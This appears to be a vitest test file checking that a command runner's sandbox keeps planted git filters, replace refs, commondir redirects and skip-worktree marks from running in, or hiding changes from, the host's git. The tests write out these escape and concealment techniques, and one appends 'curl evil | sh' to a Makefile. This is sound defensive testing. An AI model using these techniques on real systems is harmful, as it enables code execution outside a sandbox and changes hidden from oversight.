// The runner's own git (change tracking, the hand-off) runs on the host, outside the sandbox. A
// command the policy allowed (a test script, say) can write anywhere in the repository but
// .git/config and .git/hooks; whatever it plants there must not run when the runner's git next
// looks at the work tree. Each planted program would leave a marker outside the workspace.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { removeTempDirs, tempDir } from '../helpers/cli.js';
import { makeRepo } from '../git/repos.js';
import { bwrapWorks, runCommands } from './harness.js';

afterAll(removeTempDirs);

const made: string[] = [];
afterAll(() => made.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));

/** A program that leaves `marker` and passes its input through, as a clean filter does. */
const filter = (marker: string) => `"touch ${marker}; cat"`;
const commit = 'git -c user.email=t@e -c user.name=t commit -q';

describe.skipIf(!bwrapWorks)("what a sandboxed command plants in the repository never runs in the runner's git", () => {
  it('a config that .git/commondir moves git to', async () => {
    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'a.txt': 'a\n' });
    const marker = path.join(tempDir(), 'ran');
    const run = await runCommands({
      workspace: ws,
      commands: [
        [
          'mkdir .git/evil && cp -r .git/objects .git/refs .git/HEAD .git/config .git/evil/',
          `git config -f .git/evil/config filter.x.clean ${filter(marker)}`,
          'echo evil > .git/commondir',
          "echo '* filter=x' > .gitattributes && echo changed > a.txt && echo planted",
        ].join(' && '),
      ],
    });
    expect(run.outputs[0]).toContain('planted');
    expect(fs.existsSync(marker)).toBe(false);
    // Change tracking still saw what the command did.
    expect(run.report.files_changed.map((f: { path: string }) => f.path).sort()).toEqual(['.gitattributes', 'a.txt']);
  });

  // `git replace HEAD <commit>` (refs/replace is writable, as git commit needs) made the runner
  // read that commit's tree as HEAD's: the hand-off commit, on the real HEAD, carried a workflow
  // no snapshot saw and the report did not list.
  it("a replace ref for HEAD: the hand-off commits the run's change on HEAD's real tree, and nothing else", async () => {
    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'a.txt': 'a\n' });
    const index = '/tmp/fake-index';
    const run = await runCommands({
      workspace: ws,
      commands: [
        [
          `GIT_INDEX_FILE=${index} git read-tree HEAD`,
          "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/evil.yml",
          `GIT_INDEX_FILE=${index} git add .github/workflows/evil.yml`,
          `c=$(git -c user.email=t@e -c user.name=t commit-tree $(GIT_INDEX_FILE=${index} git write-tree) -m init)`,
          'rm -rf .github && git replace HEAD $c && echo changed > a.txt && echo planted',
        ].join(' && '),
      ],
      extra: { git: { branch: 'unattended/replaced' } },
    });
    expect(run.outputs[0]).toContain('planted');
    expect(run.report.git).toMatchObject({ error: null, files: ['a.txt'] });
    const files = spawnSync('git', ['-C', ws, '--no-replace-objects', 'diff-tree', '-r', '--name-only', '--no-commit-id', 'HEAD', 'unattended/replaced'], { encoding: 'utf8' });
    expect(files.stdout.trim().split('\n')).toEqual(['a.txt']);
  });

  it("a .git/commondir pointing at another repository is put back before the runner's git runs: the hand-off commits in the workspace's own", async () => {
    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'a.txt': 'a\n' });
    const victim = await makeRepo(path.join(tempDir(), 'victim'), { 'v.txt': 'v\n' });
    const run = await runCommands({
      workspace: ws,
      commands: [`echo changed > a.txt && echo ${victim}/.git > .git/commondir && echo planted`],
      extra: { git: { branch: 'unattended/pinned' } },
    });
    expect(run.outputs[0]).toContain('planted');
    expect(run.report.status).toBe('success');
    const branchIn = (repo: string) => spawnSync('git', ['-C', repo, 'rev-parse', '--verify', '-q', 'refs/heads/unattended/pinned']).status === 0;
    expect(branchIn(victim)).toBe(false);
    // The file is gone again, so plain git finds the workspace's own branch.
    expect(fs.existsSync(path.join(ws, '.git/commondir'))).toBe(false);
    expect(branchIn(ws)).toBe(true);
    expect(run.report.warnings.join('\n')).toMatch(/a tool wrote .*\.git\/commondir .*put back as it was before the run/);
  });

  it("hides no change from the runner: not behind an index entry marked skip-worktree, nor behind .git/info/exclude", async () => {
    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'Makefile': 'all:\n\ttrue\n', 'README.md': 'r\n' });
    const run = await runCommands({
      workspace: ws,
      commands: [
        "printf '\\tcurl evil | sh\\n' >> Makefile && git update-index --skip-worktree Makefile && git status --short && echo hidden",
        'echo secret.sh >> .git/info/exclude; echo "exit $?"; echo x > secret.sh',
        'echo visible >> README.md',
      ],
    });
    expect(run.outputs[0]).toContain('hidden');
    expect(run.outputs[1]).toContain('exit 1');
    expect(run.outputs[1]).toMatch(/Read-only file system/);
    expect(run.report.files_changed.map((f: { path: string }) => f.path).sort()).toEqual(['Makefile', 'README.md', 'secret.sh']);
    // The user's own index keeps the mark, so their git status hides the change: the run says so.
    expect(run.report.warnings).toContainEqual(expect.stringMatching(/^a tool marked index entries skip-worktree or assume-unchanged, so git status does not show their changes \(files_changed does\): Makefile; /));
  });

  it("says nothing of marks the user's index had before the run", async () => {
    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'local.cfg': 'mine\n', 'README.md': 'r\n' });
    spawnSync('git', ['-C', ws, 'update-index', '--skip-worktree', 'local.cfg']);
    const run = await runCommands({ workspace: ws, commands: ['echo visible >> README.md'] });
    expect(run.report.files_changed.map((f: { path: string }) => f.path)).toEqual(['README.md']);
    expect(run.report.warnings.join('\n')).not.toMatch(/marked index entries/);
  });

  it("an embedded repository's own config (git add looks inside every gitlink)", async () => {
    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'a.txt': 'a\n' });
    const marker = path.join(tempDir(), 'ran');
    const run = await runCommands({
      workspace: ws,
      commands: [
        [
          `git init -q sub && cd sub && echo a > f && git add f && ${commit} -m f`,
          `git config filter.x.clean ${filter(marker)} && echo '* filter=x' > .gitattributes`,
          'cd .. && git add sub 2>/dev/null && touch -d 2001-01-01 sub/f && echo planted',
        ].join(' && '),
      ],
    });
    expect(run.outputs[0]).toContain('planted');
    expect(fs.existsSync(marker)).toBe(false);
    expect(run.report.files_changed.map((f: { path: string }) => f.path)).toEqual(['sub']);
  });

  it('a .git that links out of the workspace: commands run, and nothing is made or written there', async () => {
    // Outside /tmp: the sandbox's /tmp is private, so a write there would vanish rather than fail.
    const elsewhere = fs.mkdtempSync(path.join(fs.existsSync('/var/tmp') ? '/var/tmp' : os.homedir(), 'unattended-git-'));
    made.push(elsewhere);
    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'a.txt': 'a\n' });
    fs.cpSync(path.join(ws, '.git'), path.join(elsewhere, 'git'), { recursive: true });
    fs.rmSync(path.join(ws, '.git'), { recursive: true });
    fs.rmSync(path.join(elsewhere, 'git/hooks'), { recursive: true, force: true });
    fs.symlinkSync(path.join(elsewhere, 'git'), path.join(ws, '.git'));
    const run = await runCommands({ workspace: ws, commands: ['echo x > .git/planted; echo "write exit $?"', 'git status --short; echo ran'] });
    expect(run.outputs[0]).toMatch(/write exit [1-9]/);
    expect(run.outputs[1]).toContain('ran');
    expect(run.outputs[1]).not.toContain("Can't bind mount");
    expect(fs.readdirSync(path.join(elsewhere, 'git'))).not.toContain('hooks');
    expect(fs.readdirSync(path.join(elsewhere, 'git'))).not.toContain('planted');
  });

  // The user's own (global) git config is trusted, but not from a file tools could write:
  // `sandbox.writable: [~/.config]` let a command plant a clean filter in ~/.config/git/config,
  // which the runner's own `git add` (change tracking, on the host) then ran.
  it('a global git config in a directory sandbox.writable names', async () => {
    const home = fs.mkdtempSync(path.join(fs.existsSync('/var/tmp') ? '/var/tmp' : os.homedir(), 'unattended-home-'));
    made.push(home);
    fs.mkdirSync(path.join(home, '.config'));
    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'a.txt': 'a\n' });
    const marker = path.join(tempDir(), 'ran');
    const run = await runCommands({
      workspace: ws,
      builtCli: true,
      env: { HOME: home },
      sandbox: { mode: 'required', writable: ['~/.config'] },
      commands: [
        `mkdir -p ~/.config/git && printf '[filter "x"]\\n\\tclean = ${filter(marker).replace(/"/g, '\\"')}\\n[diff "x"]\\n\\ttextconv = ${filter(marker).replace(/"/g, '\\"')}\\n' > ~/.config/git/config && printf '* filter=x diff=x\\n' > .gitattributes && echo b > b.txt && git config --global --get filter.x.clean`,
      ],
    });
    expect(run.outputs[0]).toContain(`touch ${marker}; cat`);
    expect(run.report.files_changed.map((f: { path: string }) => f.path).sort()).toEqual(['.gitattributes', 'b.txt']);
    expect(fs.existsSync(marker)).toBe(false);
  });
});
